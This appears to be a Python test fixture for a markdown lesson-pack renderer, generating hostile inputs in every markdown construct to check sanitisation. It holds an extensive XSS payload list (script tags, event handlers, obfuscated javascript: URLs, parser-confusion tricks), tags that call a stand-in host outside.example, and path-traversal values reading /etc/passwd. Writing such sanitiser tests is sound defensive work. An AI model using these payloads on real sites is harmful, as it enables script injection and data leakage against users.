"""Text that tries to run something or to call out, in every place where a pack may hold text."""

from collections.abc import Iterator

RUN = "window.fired=(window.fired||0)+1"
OUT = "https://outside.example/p"

RAW = [
    f"<script>{RUN}</script>",
    f"<SCRIPT\t>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x:x onerror\n={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=x onbegin={RUN}>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<style><img src='</style><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p onmouseover={RUN} style='position:fixed;inset:0'>x</p>",
    f"<div style=animation-name:x onanimationstart={RUN}>x</div>",
    f"<isindex action=javascript:{RUN} type=submit>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button form=x formaction=javascript:{RUN}>x</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href='javascript:{RUN}//'>",
    f"<link rel=stylesheet href=data:text/css,x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href='javascript:{RUN}'?><img src=x onerror={RUN}>",
    f"<xmp><img title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<title><a title='</title><img src=x onerror={RUN}>'></title>",
    f"<table background=javascript:{RUN}><td background=javascript:{RUN}>",
    f"<div popover id=p onbeforetoggle={RUN}>x</div><button popovertarget=p>x</button>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"</p></article><img src=x onerror={RUN}>",
    f"</textarea><img src=x onerror={RUN}>",
    f"{{{{ '' }}}}<img src=x onerror={RUN}>",
    f"<img src={OUT}.png>",
    f"<img srcset='{OUT}.png 1x'>",
    f"<picture><source srcset={OUT}.png><img></picture>",
    f"<link rel=stylesheet href={OUT}.css>",
    f"<link rel=preload as=image href={OUT}.png>",
    f"<link rel=dns-prefetch href={OUT}>",
    f"<style>@import '{OUT}.css';</style>",
    f'<div style="background:url({OUT}.png)">x</div>',
    f"<video poster={OUT}.png></video>",
    f"<track src={OUT}.vtt>",
    f"<iframe src={OUT}></iframe>",
    f"<object data={OUT}></object>",
    f"<embed src={OUT}>",
    f"<script src={OUT}.js></script>",
    f"<table background={OUT}.png>",
    f"<input type=image src={OUT}.png>",
    f"<svg><image href={OUT}.png /></svg>",
    f"<svg><use href={OUT}.svg#a /></svg>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<form action={OUT}><button autofocus>x</button></form>",
]
"""HTML as an attacker writes it: the first part runs something, the last calls out."""

ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}", f"%6aavascript:{RUN}", f"\x01javascript:{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "file:///etc/passwd", "//outside.example/p",
    "http://outside.example/p", "/logout", "../../x", "#main", "mailto:a@example.org", "term:", "term:x\" onclick=x",
    "term:bar%22%20onclick=x", "figure:../../etc/passwd", "https:javascript:1", "blob:https://a/b", "about:blank", "",
]  # fmt: skip

PLACES = [
    "{}", "- {}\n- x", "> {}", "| a |\n|---|\n| {} |", "## {}", "**{}**", "`{}`", "```\n{}\n```", "x[^1]\n\n[^1]: {}",
    "::: never {}\nx\n:::", "::: note\n{}\n:::", "::: check a\n{}\n\n- [x] {}\n- [ ] b\n\n> {}\n:::",
    "![{}](figure:foot)", "[{}](term:bar)", "[x](https://a.example \"{}\")", "[x]: {}\n\n[x]",
]  # fmt: skip

LINKS = ["[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "[x]: <{}>\n\n![x]", "[![y]({})]({})"]


def hostile_lessons() -> Iterator[str]:
    """Yield lessons: each payload in each place."""
    for place in PLACES:
        yield from (place.replace("{}", raw) for raw in RAW)
    for link in LINKS:
        yield from (link.replace("{}", address) for address in ADDRESSES)
